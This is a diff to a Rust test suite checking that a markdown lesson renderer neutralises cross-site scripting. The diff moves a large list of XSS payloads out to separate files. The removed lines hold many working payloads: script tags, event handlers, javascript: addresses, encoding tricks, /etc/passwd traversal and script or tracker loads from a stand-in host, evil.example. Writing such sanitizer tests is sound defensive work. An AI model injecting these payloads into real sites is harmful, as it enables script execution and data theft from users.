@@ -20,147 +20,51 @@ const ATTRIBUTES: &str = "alt aria-label checked class colspan data-anchor data-
     data-external data-language data-lesson data-run disabled height href id loading open rel role rowspan \
     src start tabindex title type width";
 
-/// Every technique that is written as markup.
-const MARKUP: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<ScRiPt >alert(1)</sCrIpT\t>",
-    "<script src=https://evil.example/x.js></script>",
-    "<script/x>alert(1)</script/y>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<<script>alert(1)//<</script>",
-    "<script><!--\nalert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x oNeRrOr=alert(1)//",
-    "<img/src=x/onerror=alert(1)>",
-    "<img src=\"images/a.png\" onload=\"alert(1)\" style=\"position:fixed\">",
-    "<img src='x' onerror='alert(1)' x=\"",
-    "<img \u{0}src=x onerror\u{0}=alert(1)>",
-    "<img src=x:alert(1) onerror=eval(src)>",
-    "<img src=`x`onerror=alert(1)>",
-    "<img src=javascript:alert(1)>",
-    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
-    "<img srcset=\"https://evil.example/a.png 2x\">",
-    "<img src=https://evil.example/track.gif>",
-    "<img src=//evil.example/track.gif>",
-    "<img src=\\\\evil.example\\track.gif>",
-    "<img src=\"../../../../etc/passwd.png\">",
-    "<img src=\"%2e%2e/%2e%2e/%2e%2e/other.png\">",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-    "<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>",
-    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"></svg>",
-    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
-    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-    "<math href=javascript:alert(1)>x</math>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
-    "<style><img src=\"</style><img src=x onerror=alert(1)>\"></style>",
-    "<p style=\"background:url(javascript:alert(1))\">x</p>",
-    "<div style=\"position:fixed;inset:0;z-index:9\">x</div>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<link rel=prefetch href=https://evil.example>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=javascript:alert(1)>",
-    "<applet code=x></applet>",
-    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
-    "<body onload=alert(1)>",
-    "<html onmouseover=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<video poster=https://evil.example/x.png></video>",
-    "<input autofocus onfocus=alert(1)>",
-    "<input type=image src=x onerror=alert(1)>",
-    "<input type=text name=password>",
-    "<select autofocus onfocus=alert(1)></select>",
-    "<textarea autofocus onfocus=alert(1)></textarea><textarea></textarea><img src=x onerror=alert(1)>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<form action=javascript:alert(1)><input type=submit></form>",
-    "<isindex action=javascript:alert(1) type=image>",
-    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<dialog open onclose=alert(1)>x</dialog>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
-    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
-    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
-    "<plaintext><script>alert(1)</script>",
-    "<custom-element onclick=alert(1)>x</custom-element>",
-    "<p id=root class=\"app-toolbar hl-x\">x</p>",
-    "<a id=\"h-x\" name=location>x</a>",
-    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
-    "<b/onclick=alert(1)>x</b>",
-    "<b\u{c}onclick=alert(1)>x</b>",
-    "<p title=\"><script>alert(1)</script>\">x</p>",
-    "<abbr title='\" onmouseover=alert(1) x=\"'>x</abbr>",
-    "<abbr title=\"&quot; onmouseover=alert(1) x=&quot;\">x</abbr>",
-    "<td background=javascript:alert(1)>x</td>",
-    "<table background=javascript:alert(1)><tr><td>x</table>",
-    "<ol start=\"1 onclick=alert(1)\"><li value=1>x</ol>",
-    "</p></div></body></html><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>-->",
-    "<!-- --!><script>alert(1)</script> -->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<!DOCTYPE html [<!ENTITY x \"<script>\">]>&x;",
-    "<?xml version=\"1.0\"?><?php echo '<script>' ?>",
-    "<a href=\"https://a.example\" target=_top ping=https://evil.example onclick=alert(1)>x</a>",
-    "<a href=\"#lesson/x\" data-lesson=\"x\" data-foo=1>x</a>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "<img src=x onerror=alert(1)",
-    "<a href=\"x",
-    "<div <div <img src=x onerror=alert(1)>",
+/// Payloads by technique, one a line; what they hold beside letters is written as in Rust.
+const MARKUP: [&str; 11] = [
+    include_str!("xss/attributes-and-ids.txt"),
+    include_str!("xss/containers.txt"),
+    include_str!("xss/embedding.txt"),
+    include_str!("xss/encodings.txt"),
+    include_str!("xss/event-handlers.txt"),
+    include_str!("xss/foreign-content.txt"),
+    include_str!("xss/forms.txt"),
+    include_str!("xss/loading.txt"),
+    include_str!("xss/raw-text-elements.txt"),
+    include_str!("xss/script-elements.txt"),
+    include_str!("xss/styles-and-heads.txt"),
 ];
+const ADDRESSES: &str = include_str!("xss/addresses.txt");
+const CUT: &str = include_str!("xss/cut.txt");
 
-/// Every technique that is written as an address.
-const ADDRESSES: &[&str] = &[
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "java\tscript:alert(1)",
-    "java&#10;script:alert(1)",
-    "&#106;avascript:alert(1)",
-    "&#x6A;avascript&colon;alert(1)",
-    "javascript&#58;alert(1)",
-    "\u{1}javascript:alert(1)",
-    "&#1;javascript:alert(1)",
-    " javascript:alert(1)",
-    "%6Aavascript:alert(1)",
-    "javascript%3Aalert(1)",
-    "javascript://https://a.example/%0Aalert(1)",
-    "https:javascript:alert(1)",
-    "./javascript:alert(1)",
-    "#javascript:alert(1)\" onclick=\"alert(1)",
-    "vbscript:msgbox(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-    "file:///etc/passwd",
-    "blob:https://a.example/x",
-    "about:blank",
-    "tauri://localhost/",
-    "ipc://localhost/",
-    "course://localhost/other/x.png",
-    "mailto:a@b.example",
-    "//evil.example/x",
-    "\\\\evil.example\\x",
-    "/etc/passwd",
-    "../../../etc/passwd",
-    "..%2f..%2f..%2fetc%2fpasswd",
-    "02-other/../../x.png",
-    "https://",
-    "https:///evil",
-    "feed:javascript:alert(1)",
-    "view-source:javascript:alert(1)",
-    "jar:https://a.example!/x",
-];
+/// The payloads of a file.
+fn payloads(file: &str) -> Vec<String> {
+    let lines = file.lines().filter(|line| !line.starts_with("// "));
+    lines.map(unescaped).collect()
+}
+
+/// `\n`, `\t`, `\\` and `\u{…}` as what they stand for.
+fn unescaped(line: &str) -> String {
+    let mut text = String::new();
+    let mut rest = line;
+    while let Some((before, after)) = rest.split_once('\\') {
+        text.push_str(before);
+        let (sign, after) = after.split_at(1);
+        rest = after;
+        match sign {
+            "n" => text.push('\n'),
+            "t" => text.push('\t'),
+            "\\" => text.push('\\'),
+            "u" => {
+                let (code, after) = rest[1..].split_once('}').unwrap();
+                text.push(char::from_u32(u32::from_str_radix(code, 16).unwrap()).unwrap());
+                rest = after;
+            }
+            other => panic!("\\{other} in {line}"),
+        }
+    }
+    text + rest
+}
 
 /// Where an author can put markup; `@` stands for it.
 const PLACES: &[&str] = &[
@@ -192,6 +96,12 @@ const PLACES: &[&str] = &[
     "<abbr title=\"@\">x</abbr>",
     "<table><tr><td>@",
     "**@** *@* ~~@~~",
+    ":::tip @\n@\n:::",
+    "?> @",
+    "<!-- tabs:start -->\n\n#### **@**\n\n@\n\n<!-- tabs:end -->",
+    "<div align=\"@\">@</div>",
+    "![@|300](images/a.png \":size=@\")",
+    "# x {#@}",
 ];
 
 /// Where an author can put an address.
@@ -257,6 +167,10 @@ fn judge_tag(tag: &str, from: &str, html: &str) {
             "src" => value.starts_with(BASE) && !value.contains(".."),
             "id" => value.starts_with("h-"),
             "type" => value == "checkbox",
+            "width" | "height" => {
+                let number = value.strip_suffix('%').unwrap_or(value);
+                !number.is_empty() && number.bytes().all(|byte| byte.is_ascii_digit())
+            }
             "class" => value.split(' ').all(is_our_class),
             _ => true,
         };
@@ -265,15 +179,17 @@ fn judge_tag(tag: &str, from: &str, html: &str) {
 }
 
 fn is_our_class(class: &str) -> bool {
-    let ours = "align-center align-left align-right callout callout-note callout-title code \
-        footnote footnote-back footnotes math mermaid table-scroll";
+    let ours = "align-center align-left align-right callout callout-caution \
+        callout-important callout-note callout-tip callout-title callout-warning code \
+        footnote footnote-back footnotes math mermaid tab tab-title table-scroll tabs";
     class.starts_with("hl-") || ours.split_whitespace().any(|our| our == class)
 }
 
-fn assert_all_inert(payloads: &[&str], places: &[&str]) {
+fn assert_all_inert(payloads: &[String], places: &[&str]) {
     let small = Small::new();
     small.write("01-first/images/a.png", "x");
     for payload in payloads {
+        // All places in one text would hide what one payload leaves open from the next.
         for place in places {
             let markdown = place.replace('@', payload);
             small.write("01-first/lesson.en.md", &markdown).write(
@@ -291,31 +207,31 @@ fn assert_all_inert(payloads: &[&str], places: &[&str]) {
 
 #[test]
 fn no_markup_gets_through_anywhere() {
-    assert_all_inert(MARKUP, PLACES);
+    for file in MARKUP {
+        assert_all_inert(&payloads(file), PLACES);
+    }
 }
 
 #[test]
 fn no_address_gets_through_anywhere() {
-    assert_all_inert(ADDRESSES, ADDRESS_PLACES);
-    assert_all_inert(ADDRESSES, PLACES);
+    let addresses = payloads(ADDRESSES);
+    assert_all_inert(&addresses, ADDRESS_PLACES);
+    assert_all_inert(&addresses, PLACES);
 }
 
 #[test]
 fn a_payload_cut_in_two_stays_inert() {
-    assert_all_inert(
-        &[
-            "<img src=x\n\nonerror=alert(1)>",
-            "<scr\n\nipt>alert(1)</script>",
-            "<a href=\"\n\njavascript:alert(1)\">x</a>",
-            "<b>\n\n</i><script>\n\nalert(1)\n\n</script>",
-            "`<img src=x`onerror=alert(1)>`",
-            "*<img src=x* onerror=alert(1)>",
-            "[<img src=x](onerror=alert(1))>",
-            "$<img src=x$onerror=alert(1)>",
-            "| <img src=x | onerror=alert(1)> |\n|-|-|",
-        ],
-        &["@", "> @", "- @"],
-    );
+    assert_all_inert(&payloads(CUT), &["@", "> @", "- @"]);
+}
+
+#[test]
+fn the_corpus_is_as_large_as_it_says() {
+    let mut all: Vec<_> = MARKUP.into_iter().flat_map(payloads).collect();
+    all.extend(payloads(ADDRESSES));
+    all.extend(payloads(CUT));
+    all.sort();
+    all.dedup();
+    assert!(all.len() >= 150, "{}", all.len());
 }
 
 #[test]
